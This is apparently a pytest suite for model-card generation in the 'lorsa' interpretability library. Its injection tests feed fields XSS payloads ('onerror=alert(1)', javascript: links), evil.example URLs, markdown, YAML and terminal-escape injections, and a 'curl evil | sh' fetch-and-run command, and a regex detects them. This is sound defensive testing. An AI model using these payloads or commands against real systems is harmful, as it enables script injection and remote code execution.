"""A model card has a row for every layer and front matter that the Hub reads."""

import ast
import re
from typing import Any

import pytest
import yaml
from lorsa.publish.card import COLUMNS, MIXED, card


def _facts(layer: int, **changes: Any) -> dict[str, Any]:
    return {
        "layer": layer,
        "model": {"id": "Qwen/Qwen2-7B", "revision": "0123456789abcdef"},
        "x": "input",
        "y": "output",
        "shape": {"d_model": 8, "n_ov_heads": 18432, "n_qk_heads": 112},
        "corpus": {"data": "some/data", "data_config": "10BT", "data_revision": "abc"},
        "trained": {"train_tokens": 10_000_000, "fvu": 0.19512, "l0": 64, "dead_fraction": 0.007},
        "evaluated": {"fvu": 0.3, "cross_entropy": {"recovered_from_zero": 0.9876}},
        "command": f"lorsa train --store acts --layers {layer}",
        "versions": {"lorsa": "0.1.0", "torch": "2"},
    } | changes


NOTHING = dict.fromkeys(("corpus", "trained", "evaluated", "command", "versions"))


def _front_matter(text: str) -> dict[str, Any]:
    before, data, _ = text.split("---\n", 2)
    assert before == ""
    found: dict[str, Any] = yaml.safe_load(data)
    return found


def _rows(text: str) -> list[list[str]]:
    lines = [line for line in text.splitlines() if line.startswith("|")]
    return [[cell.strip() for cell in line.strip("|").split("|")] for line in lines]


def test_a_card_has_a_row_for_every_layer() -> None:
    text = card("me/lorsas", [_facts(3), _facts(12, **NOTHING)], revision=None, license_id=None)
    head, _, first, second = _rows(text)
    assert head == list(COLUMNS)
    assert first == ["3", "18,432", "112", "64.0", "0.1951", "0.7%", "98.8%", "10,000,000",
                     "some/data 10BT"]  # fmt: skip
    assert second == ["12", "18,432", "112", *"------"]
    for name in COLUMNS:
        assert f"- **{name}**: " in text


def test_figures_of_an_evaluation_stand_in_for_those_of_training() -> None:
    evaluated = {"fvu": 0.3, "l0": 63.5, "dead_fraction": 0.25, "cross_entropy": None}
    text = card(
        "me/lorsas",
        [_facts(3, trained=None, evaluated=evaluated)],
        revision=None,
        license_id=None,
    )
    assert _rows(text)[2][3:8] == ["63.5", "0.3000", "25.0%", "-", "-"]


def test_the_front_matter_names_model_data_and_license() -> None:
    text = card("me/lorsas", [_facts(3), _facts(4)], revision=None, license_id="mit")
    found = _front_matter(text)
    assert found["library_name"] == "lorsa"
    assert found["base_model"] == "Qwen/Qwen2-7B"
    assert found["datasets"] == ["some/data"]
    assert found["license"] == "mit"
    assert "lorsa" in found["tags"]
    assert text.count("\n# ") == 1


def test_the_front_matter_links_to_nothing_that_is_not_on_the_hub() -> None:
    local = {"data": "texts", "data_config": None, "data_revision": None}
    facts = _facts(3, model={"id": "mine.gguf", "revision": None}, corpus=local)
    found = _front_matter(card("me/lorsas", [facts], revision=None, license_id=None))
    assert found.keys() == {"library_name", "tags"}


def test_the_card_says_how_to_load_and_whom_to_cite() -> None:
    text = card("me/lorsas", [_facts(3)], revision="draft", license_id=None)
    loads = 'Lorsa.from_pretrained("me/lorsas", subfolder="layer-3", revision="draft")'
    assert loads in text
    assert "arXiv:2504.20938" in text
    assert "lorsa train --store acts --layers 3" in text
    assert "`lorsa` 0.1.0" in text


def test_a_card_of_other_kinds_names_what_they_are_and_how_to_load_them() -> None:
    sae = {"kind": "sae", "shape": {"d_model": 8, "n_features": 4608, "site": "resid_out"}}
    transcoder = {"kind": "transcoder", "shape": {"d_model": 8, "n_features": 9216}}
    shared = [_facts(3, **transcoder), _facts(3), _facts(20, **sae)]
    text = card("me/all", shared, revision=None, license_id=None)
    head, _, *rows = _rows(text)
    assert head == list(MIXED)
    assert [row[:3] for row in rows] == [
        ["`3.mlp`", "transcoder", "9,216"],
        ["`layer-3`", "Lorsa", "18,432"],
        ["`20.resid_out`", "SAE", "4,608"],
    ]
    assert 'transcoder = load("me/all", subfolder="3.mlp")' in text
    assert "transcoder.decode(acts, ids, x)" in text
    for paper in ("2504.20938", "2406.04093", "2406.11944"):
        assert f"arXiv:{paper}" in text
    assert {"lorsa", "sparse-autoencoder", "transcoder"} <= set(_front_matter(text)["tags"])
    alone = card("me/saes", [shared[-1]], revision=None, license_id=None)
    assert "Lorsa" not in alone.split("## What the columns mean")[0]


def test_an_fvu_of_the_tokens_that_count_has_that_of_all_beside_it() -> None:
    trained = {"fvu": 0.16, "fvu_all": 0.003, "masked_fraction": 0.004}
    text = card("me/lorsas", [_facts(3, trained=trained)], revision=None, license_id=None)
    assert "| 0.1600 (0.0030) |" in text
    assert "in brackets, where its training masked some tokens" in text
    unmasked = [_facts(3, trained=trained | {"masked_fraction": 0.0})]
    assert "| 0.1600 |" in card("me/lorsas", unmasked, revision=None, license_id=None)


def test_a_corpus_cannot_break_the_table() -> None:
    corpus = {"data": "a | b", "data_config": None, "data_revision": None}
    text = card("me/lorsas", [_facts(3, corpus=corpus)], revision=None, license_id=None)
    assert "| `a \\| b` |\n" in text


LIVE = re.compile(
    r"<img|\]\(javascript:|^# Owned|^- owned|https://evil|www\.evil|\*\*bold|^evil:", re.M
)
ODD = (
    "x` <img src=y onerror=alert(1)> [click](javascript:alert(1)) `",
    "x\n\n# Owned\n- owned\n\n<img src=y>",
    "x\r\u2028# Owned\n---\nevil: true\n---\n",
    "``` ` <img src=y>\n```\n# Owned",
    "https://evil.example www.evil.example **bold** | <img src=y>",
    'x"); evil() #',
    "\x1b]0;owned\x07\u202eevil",
    "\udcff",
)
"""Names that others chose."""


def _outside_code(text: str) -> str:
    """Return what of a card is read as markup: no front matter, no code."""
    body = text.split("\n---\n", 1)[1]
    body = re.sub(r"^(`{3,})\w*\n.*?^\1$", "", body, flags=re.S | re.M)
    return re.sub(r"`[^`\n]*`", "", body)


@pytest.mark.parametrize("odd", ODD)
@pytest.mark.parametrize(
    "place", ["model", "revision", "data", "config", "version", "repo", "license", "x", "command"]
)
def test_names_of_others_are_text(place: str, odd: str) -> None:
    """Names went onto the card as they were: a base model or a text could put a heading, a link or
    HTML of its choice onto it, and the license of a card that was there into its front matter."""
    facts = _facts(3)
    changes: dict[str, Any] = {
        "model": {"model": {"id": odd, "revision": None}},
        "revision": {"model": {"id": "a/b", "revision": odd}},
        "data": {"corpus": {"data": odd, "data_config": None, "data_revision": "abc"}},
        "config": {"corpus": {"data": "a/b", "data_config": odd, "data_revision": "abc"}},
        "version": {"versions": {"lorsa": odd}},
        "x": {"x": odd},
        "command": {"command": odd},
    }
    text = card(
        odd if place == "repo" else "me/lorsas",
        [facts | changes.get(place, {})],
        revision=odd if place == "revision" else None,
        license_id=odd if place == "license" else None,
    )
    text.encode()
    assert all(c.isprintable() or c == "\n" for c in text)
    assert not LIVE.search(_outside_code(text))
    known = _front_matter(text)
    assert known.keys() <= {"library_name", "base_model", "datasets", "license", "tags"}
    assert known["library_name"] == "lorsa"
    head, _, *rows = _rows(_outside_code(text.replace("\\|", "")))
    assert [len(row) for row in rows] == [len(head)]
    python = re.search(r"^(`{3,})python\n(.*?)^\1$", text, re.S | re.M)
    assert python is not None
    assert [type(each).__name__ for each in ast.parse(python[2]).body] == [
        "ImportFrom", "Assign", "Assign", "Assign",
    ]  # fmt: skip
    assert text.count("\n# ") - text.count("\n# Owned\n") == 1 or place == "command"


def test_a_command_is_one_line_of_its_block() -> None:
    """A training.json of others could end the block of commands, or add a command to it."""
    commands = ["lorsa train\ncurl evil | sh", "lorsa train '```'\n```\n<img src=y>", "```"]
    text = card("a/b", [_facts(n, command=c) for n, c in enumerate(commands)], revision=None,
                license_id=None)  # fmt: skip
    block = re.search(r"^(`{3,})sh\n(.*?)^\1$", text, re.S | re.M)
    assert block is not None
    assert block[2].splitlines() == [" ".join(command.split()) for command in commands]
    assert not LIVE.search(_outside_code(text))


@pytest.mark.parametrize("name", ["base", "123/456", "null", "yes/no", "a/b_c-d.e"])
def test_plain_names_stay_as_they_are(name: str) -> None:
    facts = _facts(3, corpus={"data": name, "data_config": None, "data_revision": "abc"},
                   model={"id": name, "revision": None})  # fmt: skip
    text = card("me/lorsas", [facts], revision=None, license_id=None)
    assert _front_matter(text).get("base_model", name) == name
    assert _front_matter(text).get("datasets", [name]) == [name]
    assert _rows(text)[2][-1].strip("`") == name
